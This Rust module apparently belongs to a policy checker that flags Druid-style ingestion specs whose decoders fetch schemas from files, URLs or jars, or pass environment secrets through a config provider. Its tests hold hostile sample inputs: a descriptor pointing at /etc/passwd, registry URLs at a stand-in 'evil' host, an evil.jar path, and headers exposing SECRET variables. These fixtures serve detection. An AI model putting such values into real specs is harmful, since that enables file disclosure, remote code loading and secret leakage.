//! Schemas that an input format or a parser fetches from where it is told: by the extensions for Avro, Protobuf, Thrift.

use super::input_source::{self, Unreadable};
use super::json::Json;
use super::work::Work;
use crate::location::{Reach, Source};

/// By what such a place is known in a policy.
pub(super) const SCHEMA: &str = "schema_registry";

/// Members that name a file, a URL, a class path, wherever they stand.
const PLACES: [&str; 3] = ["descriptor", "schemaRepository", "thriftJar"];

/// Members that hold a decoder, and those of one that name a URL.
const DECODERS: [&str; 2] = ["avroBytesDecoder", "protoBytesDecoder"];
const URLS: [&str; 2] = ["url", "urls"];

/// Adds what the formats within an object fetch. Which places these are is not for a policy to say: nobody can tell.
pub(super) fn read(json: Json<'_>, work: &mut Work) -> Result<(), Unreadable> {
    let mut fetches = false;
    json.each_key(&mut |holder, key| {
        let of_decoder = holder.is_some_and(|holder| DECODERS.contains(&holder));
        fetches |= PLACES.contains(&key) || of_decoder && URLS.contains(&key);
    })?;
    if fetches {
        work.sources.push(Source {
            source_type: SCHEMA.to_owned(),
            reach: Reach::Unknown,
            connection: true,
            environment: input_source::hands_over_a_secret(json.text()),
        });
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fetches(text: &str) -> bool {
        let mut work = Work::default();
        read(Json::document(text).unwrap(), &mut work).unwrap();
        !work.sources.is_empty()
    }

    #[test]
    fn what_names_a_place_is_external_data() {
        for text in [
            r#"{"type": "protobuf", "protoBytesDecoder": {"type": "file", "descriptor": "file:///etc/passwd"}}"#,
            r#"{"type": "protobuf", "protoBytesDecoder": {"type": "schema_registry", "url": "http://evil"}}"#,
            r#"{"spec": {"ioConfig": {"inputFormat": {"type": "kafka", "valueFormat": {"type": "avro_stream",
                "avroBytesDecoder": {"type": "schema_registry", "urls": ["http://evil"]}}}}}}"#,
            r#"{"parser": {"type": "avro_stream", "avroBytesDecoder": {"type": "schema_repo",
                "schemaRepository": {"type": "avro_1124_rest_client", "url": "http://evil"}}}}"#,
            r#"{"parser": {"type": "thrift", "thriftJar": "/tmp/evil.jar"}}"#,
        ] {
            assert!(fetches(text), "{text}");
        }
    }

    /// Jackson keeps a parser as a map: nobody sees the provider being built.
    #[test]
    fn a_secret_that_a_map_hands_over_counts() {
        let hands_over = |provider: &str| {
            let text = format!(
                r#"{{"dataSchema": {{"parser": {{"avroBytesDecoder": {{"type": "schema_registry", "url": "http://evil",
                    "headers": {{"druid.dynamic.config.provider": {provider}}}}}}}}}}}"#
            );
            let mut work = Work::default();
            read(Json::document(&text).unwrap(), &mut work).unwrap();
            work.sources.iter().any(|source| source.environment)
        };
        assert!(hands_over(
            r#"{"type": "environment", "variables": {"a": "SECRET"}}"#
        ));
        assert!(hands_over(
            r#"["environment", {"variables": {"a": "SECRET"}}]"#
        ));
        assert!(!hands_over(
            r#"{"type": "mapString", "config": {"a": "b"}}"#
        ));
    }

    #[test]
    fn what_holds_its_schema_is_not() {
        for text in [
            r#"{"type": "json", "flattenSpec": {"fields": [{"type": "path", "name": "url", "expr": "$.url"}]}}"#,
            r#"{"type": "avro_stream", "avroBytesDecoder": {"type": "schema_inline", "schema": {"name": "url"}}}"#,
            r#"{"type": "protobuf", "protoBytesDecoder": {"type": "inline", "descriptorString": "x"}}"#,
            r#"{"url": "http://example.com"}"#,
        ] {
            assert!(!fetches(text), "{text}");
        }
    }
}
